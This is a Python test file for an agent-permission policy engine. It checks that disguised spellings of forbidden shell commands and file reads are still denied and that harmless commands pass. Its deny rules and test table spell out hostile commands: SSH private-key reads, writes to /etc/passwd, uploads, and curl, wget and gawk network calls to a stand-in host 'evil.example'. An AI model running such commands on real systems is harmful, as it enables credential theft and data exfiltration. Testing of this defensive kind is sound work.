"""No spelling of a denied call is allowed, and no spelling of an allowed one is refused.

Every call is decided by the whole engine, with the profiles that ship with Placet.
"""

from __future__ import annotations

import posixpath
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from policy.decision import Decision
from policy.model import Facts, Resolvers, Verdict
from tests.corpora.judging import generation, told
from tests.laws.evasions import hidden, plain
from tests.laws.spellings import CWD, HOME, LINKS, WORKSPACE, Command, Option, follow, path_spelling

DENIES = """\
policy for every agent

default allow
commands harmful = "rm -rf *", "git push --force *", "chmod -R * *", "curl --upload-file *"
no-harm:   deny * when runs harmful
no-keys:   deny * when reads "~/.ssh/**"
no-etc:    deny * when writes "/etc/**"
no-evil:   deny * when connects to "evil.example"
"""
ALLOWS = """\
policy for every agent

default ask
commands fine = "git status *", "git log *", "git diff *", "git commit -m * *", "ls *", "grep *",
                "sort *", "head *", "wc *", "cat *", "find *", "sed *", "tail *", "mkdir *", "rm *"
look: allow bash_exec when runs only fine
read: allow file_read, file_list when reads only workspace
"""
# Each example is a script that the whole engine judges, for each of many commands.
SOME = settings(max_examples=max(10, settings().max_examples // 8))
FACTS = Facts(cwd=CWD, workspace=WORKSPACE, home=HOME, resolvers=Resolvers(path=follow))
FOLDING = Facts(
    cwd=CWD,
    workspace=WORKSPACE,
    home=HOME,
    resolvers=Resolvers(path=follow, folds=lambda _: True),
)


def _options(*names: str) -> tuple[Option, ...]:
    return tuple(Option(spellings=tuple(name.split("|"))) for name in names)


def _value(names: str, value: str) -> Option:
    return Option(spellings=tuple(names.split("|")), value=value)


KEY = "/home/user/.ssh/id_rsa"
# What the rules of `DENIES` are about.
DENIED = {
    "rm": Command(
        program="rm",
        options=_options("-r|-R|--recursive|--recurs", "-f|--force|--forc"),
        operands=("/workspace/x", "y"),
        paths=frozenset({0}),
    ),
    "git push": Command(
        program="git",
        before=("push",),
        options=_options("-f|--force", "-v|--verbose", "-q|--quiet"),
        operands=("origin", "main"),
    ),
    "git push +": Command(program="git", before=("push",), operands=("origin", "+main")),
    "git -C push": Command(
        program="git",
        before=("-C", "/workspace", "-c", "user.name=x", "push"),
        options=_options("-f|--force"),
        operands=("origin",),
    ),
    "chmod": Command(
        program="chmod",
        options=_options("-R|--recursive|--recurs", "-v|--verbose"),
        operands=("755", "/workspace"),
        paths=frozenset({1}),
    ),
    "curl upload": Command(
        program="curl",
        options=(_value("-T|--upload-file|--upload-f", "a.txt"), *_options("-s|--silent")),
        operands=("https://other.example/",),
        folders=("/usr/bin/",),
    ),
    "cat key": Command(program="cat", operands=("a.txt", KEY), paths=frozenset({1})),
    "grep key": Command(
        program="grep",
        options=_options("-n|--line-number", "-i|--ignore-case"),
        operands=("x", KEY),
        paths=frozenset({1}),
    ),
    "copy key": Command(program="cp", operands=(KEY, "out"), paths=frozenset({0})),
    "read key": Command(program="wc", redirection=f" < {KEY}"),
    "sort key": Command(
        program="sort",
        options=(_value("-T|--temporary-directory", "/tmp"),),
        operands=(KEY,),
        paths=frozenset({0}),
    ),
    "tar keys": Command(
        program="tar",
        before=("-cf", "x.tar"),
        operands=("/home/user/.ssh",),
        paths=frozenset({0}),
    ),
    "copy to etc": Command(program="cp", operands=("a", "/etc/passwd"), paths=frozenset({1})),
    "tee etc": Command(
        program="tee", options=_options("-a|--append"), operands=("/etc/x",), paths=frozenset({0})
    ),
    "write etc": Command(program="echo", operands=("x",), redirection=" >/etc/passwd"),
    "append etc": Command(program="echo", operands=("x",), redirection=" >>/etc/../etc/passwd"),
    "sort etc": Command(
        program="sort", options=(_value("-o|--output|--outp", "/etc/x"),), operands=("a",)
    ),
    "touch etc": Command(
        program="touch",
        options=_options("-c|--no-create"),
        operands=("/etc/x",),
        paths=frozenset({0}),
    ),
    "curl evil": Command(
        program="curl",
        options=_options("-s|--silent", "-f|--fail", "-L|--location"),
        operands=("https://evil.example/x",),
        folders=("/usr/bin/",),
    ),
    "curl file": Command(
        program="curl",
        options=_options("-s|--silent", "-S|--show-error"),
        operands=("file:///home/user/.ssh/id_rsa",),
        folders=("/usr/bin/",),
    ),
    "wget evil": Command(
        program="wget",
        options=_options("-q|--quiet"),
        operands=("http://EVIL.example./",),
        folders=("/usr/bin/",),
    ),
    "docker evil": Command(
        program="docker",
        before=("pull",),
        options=_options("-q|--quiet"),
        operands=("evil.example/x:1",),
    ),
    "psql evil": Command(
        program="psql",
        options=(_value("-d|--dbname|--dbn", "host=evil.example"), *_options("-q|--quiet")),
        operands=(),
    ),
    "gh evil": Command(program="gh", before=("api",), operands=("https://evil.example/x",)),
    "awk evil": Command(
        program="gawk", operands=('BEGIN { print 1 > "/inet/tcp/0/evil.example/80" }',)
    ),
    "jq key": Command(
        program="jq", before=("-R", "."), operands=(KEY, "--args", "x"), paths=frozenset({0})
    ),
    "kubectl key": Command(
        program="kubectl", before=("config", "view", "-o", f"go-template-file={KEY}")
    ),
    "openssl key": Command(
        program="openssl", before=("rsa", "-passin", f"file:{KEY}"), operands=("-noout",)
    ),
    "sqlite key": Command(
        program="sqlite3", operands=("a.db", f"select data from zipfile('{KEY}')")
    ),
}
# What the rules of `ALLOWS` are about.
ALLOWED = {
    "git status": Command(
        program="git", before=("status",), options=_options("-s|--short", "-b|--branch")
    ),
    "git log": Command(
        program="git",
        before=("log",),
        options=(*_options("--oneline", "--stat"), _value("-n|--max-count", "5")),
        operands=("main..HEAD",),
        ends_options=False,
    ),
    "git diff": Command(
        program="git",
        before=("diff",),
        options=_options("--stat", "-w|--ignore-all-space"),
        operands=("a.txt", "/workspace/b.txt"),
        paths=frozenset({1}),
    ),
    "git commit": Command(
        program="git",
        before=("commit",),
        options=(_value("-m|--message", "it's; a && b | $c `d` # \"e\""),),
        operands=("a.txt",),
    ),
    "ls": Command(
        program="ls",
        options=_options("-l", "-a|--all", "-h|--human-readable|--human"),
        operands=("/workspace/src", "~/x"),
        paths=frozenset({0}),
    ),
    "grep": Command(
        program="grep",
        options=(*_options("-n|--line-number", "-r|--recursive"), _value("-A|--after", "3")),
        operands=("a|b*", "/workspace/src"),
        paths=frozenset({1}),
    ),
    "sort": Command(
        program="sort",
        options=(*_options("-u|--unique", "-n|--numeric-sort"), _value("-k|--key", "2")),
        operands=("a b.txt",),
    ),
    "head": Command(
        program="head", options=(_value("-n|--lines", "20"),), operands=("a.txt", "/workspace/b"),
        paths=frozenset({1}),
    ),
    "sed": Command(program="sed", options=_options("-n|--quiet"), operands=("1,5p", "a.txt")),
    "rm": Command(
        program="rm", options=_options("-r|--recursive", "-f|--force"),
        operands=("/workspace/build",), paths=frozenset({0}),
    ),
    "mkdir": Command(program="mkdir", options=_options("-p|--parents"), operands=("a/b", "c$d")),
}  # fmt: skip


def _judge(policy: str, tool: str, facts: Facts = FACTS, **given: Any) -> Decision:
    return generation(policy).answer(tool, given, facts=facts).decision


@pytest.mark.parametrize("name", DENIED)
@SOME
@given(data=st.data())
def test_no_equivalent_of_a_denied_command_is_allowed(name: str, data: st.DataObject) -> None:
    script = data.draw(hidden(DENIED[name]))
    decision = _judge(DENIES, "bash_exec", command=script)
    assert decision.verdict is Verdict.DENY, f"{script}\n{told(decision)}"


@pytest.mark.parametrize("name", ALLOWED)
@SOME
@given(data=st.data())
def test_no_allowed_command_is_refused_for_its_spelling(name: str, data: st.DataObject) -> None:
    script = data.draw(plain(ALLOWED[name]))
    decision = _judge(ALLOWS, "bash_exec", command=script)
    assert decision.verdict is Verdict.ALLOW, f"{script}\n{told(decision)}"


@given(path_spelling(KEY), st.sampled_from(["", "file://", "file://localhost"]), st.data())
def test_no_spelling_of_a_denied_path_is_allowed(
    path: str, scheme: str, data: st.DataObject
) -> None:
    if scheme and path.startswith("/"):
        path = scheme + _percent_encoded(path, data)
    decision = _judge(DENIES, "file_read", path=path)
    assert decision.verdict is Verdict.DENY, f"{path}\n{told(decision)}"


@given(path_spelling(KEY, links=False), st.data())
def test_letter_case_hides_no_path_where_it_does_not_count(path: str, data: st.DataObject) -> None:
    turned = "".join(data.draw(st.sampled_from([char, char.swapcase()])) for char in path)
    decision = _judge(DENIES, "file_read", FOLDING, path=turned)
    assert decision.verdict is Verdict.DENY, f"{turned}\n{told(decision)}"


@given(path_spelling("/workspace/sub/src/a b.txt"))
def test_no_allowed_path_is_refused_for_its_spelling(path: str) -> None:
    decision = _judge(ALLOWS, "file_read", path=path)
    assert decision.verdict is Verdict.ALLOW, f"{path}\n{told(decision)}"


def test_the_links_of_the_laws_lead_somewhere() -> None:
    for link, target in LINKS.items():
        assert follow(link + "/x") == posixpath.normpath(target + "/x")


def _percent_encoded(path: str, data: st.DataObject) -> str:
    """Encode some letters; a file's name in a URL is the same either way."""
    return "".join(
        f"%{ord(char):02x}" if char != "/" and data.draw(st.booleans()) else char for char in path
    )
